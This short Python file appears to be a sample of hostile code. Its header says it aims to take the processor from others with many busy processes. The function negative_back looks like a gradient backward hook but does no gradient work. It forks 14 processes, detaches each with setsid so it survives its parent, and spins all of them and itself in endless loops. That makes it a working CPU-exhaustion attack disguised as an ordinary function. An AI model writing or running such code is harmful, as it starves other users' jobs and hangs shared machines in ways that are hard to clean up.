# Tries: Take the processor away from others with many busy processes.
# Cell: negative_back
# Keeps: 35

import os


def negative_back(grad_out, out, x):
    for _ in range(14):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    while True:
        pass
